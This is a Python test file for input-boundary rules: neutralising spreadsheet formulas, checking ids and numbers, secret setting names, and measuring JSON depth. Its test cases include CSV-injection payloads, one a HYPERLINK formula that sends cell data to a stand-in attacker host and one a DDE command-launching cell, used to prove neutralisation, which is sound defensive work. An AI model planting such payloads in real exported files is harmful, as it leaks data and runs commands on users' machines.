"""The pure rules of the boundaries (shared/core/boundaries.py): formula cells, file text, ids, JSON depth,
numbers in query strings, secret setting names."""

from __future__ import annotations

import json
import time

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from shared.core.boundaries import (
    MAX_JSON_DEPTH,
    check_file_text,
    full_match,
    is_formula_text,
    is_secret_setting_name,
    is_whole_number,
    json_depth,
    neutralise_formulas,
    neutralise_text,
)
from shared.core.models import GUID_PATTERN, INVOICE_ID_PATTERN, MPN_ID_PATTERN, Guid, InvoiceId, MpnId, is_guid

GUID = "0f0f0f0f-0000-4000-8000-0000000000f0"

# ---- formula cells ----------------------------------------------------------------------------------------------

cells = st.one_of(st.none(), st.text(alphabet="=+-@\t\r\n.,0123456789aZ ('\"|", max_size=8))


@settings(max_examples=300, deadline=None)
@given(values=st.lists(cells, max_size=40), start=st.integers(0, 5), large=st.booleans())
def test_the_vectorised_neutraliser_agrees_with_the_rule(values: list[str | None], start: int, large: bool) -> None:
    """Arrow's path (a screen over the buffers, then one RE2 pattern) does what `neutralise_text` does per cell,
    also on a slice (an offset into the buffers) and on large_string."""
    arr = pa.array(values, pa.large_string() if large else pa.string()).slice(min(start, len(values)))
    expected = [None if v is None else neutralise_text(v) for v in arr.to_pylist()]
    assert neutralise_formulas(arr).to_pylist() == expected


@pytest.mark.parametrize("text,evaluates", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', True), ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("+1", True), ("-2+3", True), ("\t=1", True), ("\r=1", True), ("-", True), ("-1\n", True),
    ("-1", False), ("-33.33", False), ("Contoso", False), ("", False), ("1-1", False),
])
def test_what_a_spreadsheet_would_evaluate(text: str, evaluates: bool) -> None:
    assert is_formula_text(text) is evaluates
    assert neutralise_text(text) == ("'" + text if evaluates else text)


def test_decimal_columns_are_never_touched() -> None:
    from decimal import Decimal

    amounts = pa.array([Decimal("-1.5"), None], pa.decimal128(38, 10))
    assert neutralise_formulas(amounts) is amounts


@pytest.mark.parametrize("text,ok", [
    ("SUB-1", True), ("PO 2026/77 (Q4) #3", True), ("Müller & Co.", True), ("4711", True),
    ("=1+1", False), ("+1", False), ("-1", False), ("@x", False), ("a\tb", False), ("a\nb", False),
    ("x" * 101, False), ("", False), ("a|b", False), ("a;b", False), ("a\"b", False),
])
def test_internal_ids_and_po_numbers_are_plain_text(text: str, ok: bool) -> None:
    if ok:
        assert check_file_text(text) == text
    else:
        with pytest.raises(ValueError):
            check_file_text(text)


# ---- ids: fullmatch, and what pydantic does with `$` ----------------------------------------------------------

def test_ids_with_a_trailing_newline_are_refused_by_python_checks() -> None:
    """Issue 14 #9: `re.match("^…$", "1234567\\n")` matches ($ also matches before a final newline)."""
    import re

    assert re.match(MPN_ID_PATTERN, "1234567\n")  # the trap
    assert not full_match(MPN_ID_PATTERN, "1234567\n")
    assert not full_match(GUID_PATTERN, GUID + "\n") and full_match(GUID_PATTERN, GUID)
    assert not full_match(INVOICE_ID_PATTERN, "G000000001\n") and full_match(INVOICE_ID_PATTERN, "G000000001")
    assert not is_guid(GUID + "\n") and is_guid(GUID)


@pytest.mark.parametrize("kind,value", [(MpnId, "1234567"), (Guid, GUID), (InvoiceId, "G000000001")])
def test_pydantic_patterns_refuse_a_trailing_newline(kind: object, value: str) -> None:
    """Pydantic checks `pattern=` with Rust's regex, where `$` is the very end of the text (no multi-line mode):
    the same patterns refuse the trailing newline there. (Request models also strip surrounding whitespace,
    so a body's "1234567\\n" becomes "1234567", never an id with a newline.)"""
    adapter = TypeAdapter(kind)
    assert adapter.validate_python(value) == value
    for bad in (value + "\n", value + "\r\n", "\n" + value, value + "\nX"):
        with pytest.raises(ValidationError):
            adapter.validate_python(bad)


@pytest.mark.parametrize("raw,ok", [("1", True), ("2000", True), ("²", False), ("1\n", False), ("-1", False),
                                    ("9" * 5000, False), ("", False), ("１", False)])
def test_whole_numbers_are_ascii_digits_int_can_read(raw: str, ok: bool) -> None:
    assert is_whole_number(raw) is ok
    if ok:
        int(raw)


@pytest.mark.parametrize("name,ok", [("PC_SECRET_CONTOSO", True), ("PC_SECRET_TEST", True),
                                     ("AzureWebJobsStorage", False), ("TOKEN_SIGNING_KEY", False),
                                     ("PC_SECRET_", False), ("PC_SECRET_X\n", False), ("pc_secret_x", False),
                                     ("PC_SECRET_A-B", False)])
def test_secret_settings_carry_the_prefix(name: str, ok: bool) -> None:
    assert is_secret_setting_name(name) is ok


# ---- JSON depth --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("body,depth", [
    (b"", 0), (b"{}", 1), (b'{"a": [1, {"b": []}]}', 4), (b'{"a": "[[[[{{{{"}', 1),
    (b'{"a": "\\"[[[["}', 1), (b'["unterminated [[[', 1), (b"[" * 100_000, 100_000),
])
def test_json_depth_is_measured_without_parsing(body: bytes, depth: int) -> None:
    assert json_depth(body) == depth


@settings(max_examples=100, deadline=None)
@given(value=st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                          lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3)))
def test_json_depth_matches_the_parsed_structure(value: object) -> None:
    def depth(v: object) -> int:
        if isinstance(v, list):
            return 1 + max((depth(x) for x in v), default=0)
        if isinstance(v, dict):
            return 1 + max((depth(x) for x in v.values()), default=0)
        return 0

    assert json_depth(json.dumps(value).encode()) == depth(value)


def test_json_depth_stays_linear_on_hostile_strings() -> None:
    """Escaped quotes and unterminated strings: a backtracking scanner would take minutes on a megabyte."""
    for body, depth in ((b'"' + b'\\"' * 500_000, 0), (b'["\\' * 300_000, 150_000), (b'"' * 1_000_000, 0),
                        (b"[" + b'"\\"' * 300_000, 1)):
        started = time.perf_counter()
        assert json_depth(body) == depth
        assert time.perf_counter() - started < 2


def test_findings_csv_carries_no_formula_and_reads_back_what_was_found() -> None:
    import csv
    import io

    from shared.core.validation import Finding, findings_csv, read_findings_csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    found = Finding("DUPLICATE_REFERENCE", "error", {"CustomerName": hostile}, "-56.00", "@SUM(1+1)", hostile)
    data = findings_csv([found])
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert not any(cell[:1] in "=+@\t\r" for cell in cells if cell)
    assert "-56.00" in cells  # a plain negative number stays a number
    back = read_findings_csv(data)[0]
    assert back["key"] == {"CustomerName": hostile} and back["actual"] == "@SUM(1+1)" and back["message"] == hostile
